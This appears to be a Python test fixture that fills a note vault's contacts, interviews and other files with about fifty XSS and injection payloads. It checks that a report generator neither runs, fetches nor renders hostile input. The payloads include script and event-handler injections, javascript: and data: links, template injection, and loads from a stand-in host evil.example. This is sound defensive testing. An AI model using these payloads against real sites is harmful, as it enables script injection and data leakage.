"""Notes by somebody who wants a report to run, fetch or draw something: every attempt, in every kind of field."""

from __future__ import annotations

import json

from theme_stories import Files

EVIL = "https://evil.example"
ATTEMPTS = (
    "<script>pwned=1</script>",
    "<ScRiPt>pwned=1</sCrIpT >",
    f"<script src={EVIL}/x.js></script>",
    "</script><script>pwned=1</script>",
    "</style><script>pwned=1</script>",
    "</title><script>pwned=1</script>",
    "</textarea></select></noscript><script>pwned=1</script>",
    "--><script>pwned=1</script><!--",
    "]]><script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    f"<img src={EVIL}/pixel.png>",
    f"<img srcset='{EVIL}/a.png 1x'>",
    f"![drawn]({EVIL}/drawn.png)",
    f"![[{EVIL}/embedded.png]]",
    '" onmouseover="pwned=1" x="',
    "' onfocus='pwned=1' autofocus tabindex='1",
    '"><svg onload=pwned=1>',
    "<svg/onload=pwned=1>",
    "<svg><script href='data:text/javascript,pwned=1' /></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s></svg>",
    "<details open ontoggle=pwned=1>x</details>",
    "<body onload=pwned=1>",
    "<input autofocus onfocus=pwned=1>",
    "<video><source onerror=pwned=1></video>",
    f"<iframe src={EVIL}></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<object data={EVIL}/x.swf></object>",
    f"<embed src={EVIL}/x>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f'<p style="background:url({EVIL}/bg.png)">x</p>',
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<form action={EVIL}><button>send</button></form>",
    "[run](javascript:pwned=1)",
    "[run](JaVaScRiPt:pwned=1)",
    "[run](java\tscript:pwned=1)",
    "[run](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[run](vbscript:pwned=1) [file](file:///etc/hostname) [smb](smb://evil.example/x)",
    '[[x"><img src=x onerror=pwned=1>|shown]]',
    "[[javascript:pwned=1]]",
    '[over](https://fine.example/"onmouseover="pwned=1)',
    "<a href=javascript:pwned=1 id=filter name=filter>click</a>",
    "&lt;script&gt;pwned=1&lt;/script&gt; &#60;script&#62;pwned=1",
    "{{constructor.constructor('pwned=1')()}} ${pwned=1} `${pwned=1}`",
    "\u202e<script>pwned=1</script>\u2066",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<template><script>pwned=1</script></template><slot onslotchange=pwned=1>",
    f"<a ping={EVIL} href=#>x</a><div id=main class=said data-who=0 data-theme=0>",
)  # fmt: skip


def hostile_notes() -> Files:
    """A vault in which each attempt is a person with a talk, and stands in whatever a note can say of the two."""
    files: Files = {"Profile.md": "\n".join(["---", "type: profile", "goals:", *_list(), "assumptions:", *_list(), "skills:", *_list(), "---"])}
    for number, attempt in enumerate(ATTEMPTS):
        files |= _about(number, attempt)
    return files


def _list() -> list[str]:
    return [f"  - {json.dumps(f'{attempt} #theme/hostile')}" for attempt in ATTEMPTS]


def _about(number: int, attempt: str) -> Files:
    said = json.dumps(attempt)
    file = attempt.replace("/", "∕").replace("\t", " ")
    nobody = json.dumps(f"{attempt} {number}")
    day = f"2026-0{number % 4 + 1}-{number % 27 + 1:02}"
    person = [
        "type: contact", f"name: {said}", f"aliases: [{said}]", f"role: {said}", f"organization: {said}", f"industry: {said}", f"seniority: {said}",
        f"location: {said}", f"email: {said}", f"linkedin: {said}", f"salutation: {said}", f"channel: {said}",
        f"source: {said if number % 2 else json.dumps('[[' + file.strip('[]') + ']]')}", f"outreach: [{json.dumps(f'2026-01-02 email {attempt}')}]",
        f"touches: [{json.dumps(f'{day} email {attempt}')}]", f"replied: {said}", f"tags: [{said}]",
    ]  # fmt: skip
    talk = [
        "type: interview", f"contact: {json.dumps(f'[[contacts/{number} {file}]]')}", f"date: {day}", "outcome: held", f"place: {said}",
        f"referrals: [{said}, {nobody}]", f"themes: [hostile, {said}]",
    ]  # fmt: skip
    body = [
        "## Prep", f"- [x] {attempt} #q/advice", "## Notes", f"### {attempt}", f"- {attempt} ({'+-'[number % 2]}) #theme/hostile #skill/hostile",
        f"  - {attempt}", f"    - {attempt}", f"> {attempt} #theme/hostile", "", f'- "{attempt}" #theme/{file.replace(" ", "-")}',
        f"- {attempt} #skill/{file.replace(' ', '-')}", f"- {attempt}: see [{attempt}]({EVIL}/{number}) and {EVIL}/{number}?{attempt}",
        "### Advice", f"- {attempt} {number}", "### Resources", f"- {attempt}", "## Takeaways", f"- {attempt}", "## Open questions", f"- {attempt}",
        "## Next steps", f"- [ ] {attempt} 📅 2026-05-01", f"- [ ] {attempt} #promised",
    ]  # fmt: skip
    return {
        f"contacts/{number} {file}.md": "\n".join(["---", *person, "---", attempt]),
        f"interviews/{day} {number} {file}.md": "\n".join(["---", *talk, "---", *body, ""]),
        f"organizations/{file}.md": "\n".join(["---", "type: organization", f"name: {said}", f"website: {said}", "---", attempt]),
        f"themes/{number} {file}.md": "\n".join(["---", "type: theme", f"name: {said}", f"parent: {said}", "---", attempt]),
    }
